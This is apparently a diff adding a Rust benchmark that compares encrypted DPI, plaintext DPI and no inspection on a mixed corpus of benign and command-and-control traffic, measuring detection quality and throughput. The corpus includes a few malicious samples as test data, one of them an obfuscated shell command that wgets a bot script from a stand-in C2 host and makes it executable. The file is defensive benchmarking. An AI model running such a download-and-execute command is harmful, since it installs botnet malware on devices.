@@ -1,0 +1,130 @@
+//! E-M4 — encrypted DPI (§IV-B2): detection and throughput of the
+//! BlindBox-style encrypted middlebox vs plaintext DPI vs no inspection,
+//! over a mixed corpus of benign and C&C traffic. The claim under test:
+//! encrypted DPI preserves detection exactly, at a constant-factor
+//! throughput cost, without breaking end-to-end encryption.
+
+use std::time::Instant;
+use xlf_bench::{print_table, prf};
+use xlf_core::dpi::{default_rules, EncryptedDpi, PlaintextDpi};
+use xlf_lwcrypto::searchable::Tokenizer;
+use xlf_simnet::SimTime;
+
+/// Builds the corpus: (payload, is_malicious).
+fn corpus() -> Vec<(Vec<u8>, bool)> {
+    let mut out = Vec::new();
+    let benign = [
+        "GET /weather/today?zip=44106 HTTP/1.1",
+        "POST /telemetry temperature=71.2 humidity=40",
+        "keepalive ping seq=291 device=thermo",
+        "firmware check: version 2.1.3 ok",
+        "stream chunk 0xA5A5 len=900 camera idle",
+    ];
+    let malicious = [
+        "sh -c 'wget${IFS}http://cnc.evil/bot.sh' && chmod +x bot.sh",
+        "/bin/busybox MIRAI scanner begin 10.0.0.0/24",
+        "beacon POST /cdn-cgi/ HTTP keepalive c2",
+    ];
+    for round in 0..50 {
+        for (i, b) in benign.iter().enumerate() {
+            out.push((format!("{b} #{round}.{i}").into_bytes(), false));
+        }
+        // 1 in ~6 payloads is malicious.
+        let m = malicious[round % malicious.len()];
+        out.push((format!("{m} #{round}").into_bytes(), true));
+    }
+    out
+}
+
+fn main() {
+    let corpus = corpus();
+    let total_bytes: usize = corpus.iter().map(|(p, _)| p.len()).sum();
+
+    // Plaintext DPI (the middlebox that breaks end-to-end encryption).
+    let plain = PlaintextDpi::new(default_rules());
+    let start = Instant::now();
+    let plain_outcomes: Vec<(bool, bool)> = corpus
+        .iter()
+        .map(|(p, truth)| (!plain.inspect(p).is_empty(), *truth))
+        .collect();
+    let plain_elapsed = start.elapsed().as_secs_f64();
+
+    // Encrypted DPI: the endpoint tokenizes; the middlebox matches tokens.
+    let mut enc = EncryptedDpi::new(default_rules());
+    enc.bind_session(b"exp-dpi session").expect("bind");
+    let endpoint = Tokenizer::new(b"exp-dpi session").expect("tokenizer");
+    let start = Instant::now();
+    let enc_outcomes: Vec<(bool, bool)> = corpus
+        .iter()
+        .map(|(p, truth)| {
+            let tokens = endpoint.tokenize(p);
+            (
+                !enc.inspect("dev", &tokens, SimTime::ZERO).is_empty(),
+                *truth,
+            )
+        })
+        .collect();
+    let enc_elapsed = start.elapsed().as_secs_f64();
+
+    let none_outcomes: Vec<(bool, bool)> =
+        corpus.iter().map(|(_, truth)| (false, *truth)).collect();
+
+    let mbps = |elapsed: f64| (total_bytes as f64 / 1e6) / elapsed.max(1e-9);
+    let rows = vec![
+        {
+            let m = prf(&none_outcomes);
+            vec![
+                "no inspection".to_string(),
+                format!("{:.2}", m.precision),
+                format!("{:.2}", m.recall),
+                format!("{:.2}", m.f1),
+                "∞".to_string(),
+                "end-to-end intact".to_string(),
+            ]
+        },
+        {
+            let m = prf(&plain_outcomes);
+            vec![
+                "plaintext DPI".to_string(),
+                format!("{:.2}", m.precision),
+                format!("{:.2}", m.recall),
+                format!("{:.2}", m.f1),
+                format!("{:.1} MB/s", mbps(plain_elapsed)),
+                "BROKEN (MitM certificates)".to_string(),
+            ]
+        },
+        {
+            let m = prf(&enc_outcomes);
+            vec![
+                "XLF encrypted DPI".to_string(),
+                format!("{:.2}", m.precision),
+                format!("{:.2}", m.recall),
+                format!("{:.2}", m.f1),
+                format!("{:.1} MB/s", mbps(enc_elapsed)),
+                "end-to-end intact".to_string(),
+            ]
+        },
+    ];
+    print_table(
+        "E-M4 — Encrypted DPI vs plaintext DPI vs none (§IV-B2)",
+        &[
+            "Engine",
+            "Precision",
+            "Recall",
+            "F1",
+            "Throughput",
+            "E2E encryption",
+        ],
+        &rows,
+    );
+    println!(
+        "\nCorpus: {} payloads ({} malicious), {} rules.\n\
+         Shape check: encrypted DPI matches plaintext detection exactly while\n\
+         preserving end-to-end encryption, at a constant-factor slowdown\n\
+         ({}× here) — the BlindBox trade the paper adopts.",
+        corpus.len(),
+        corpus.iter().filter(|(_, m)| *m).count(),
+        default_rules().len(),
+        (mbps(plain_elapsed) / mbps(enc_elapsed)).round()
+    );
+}
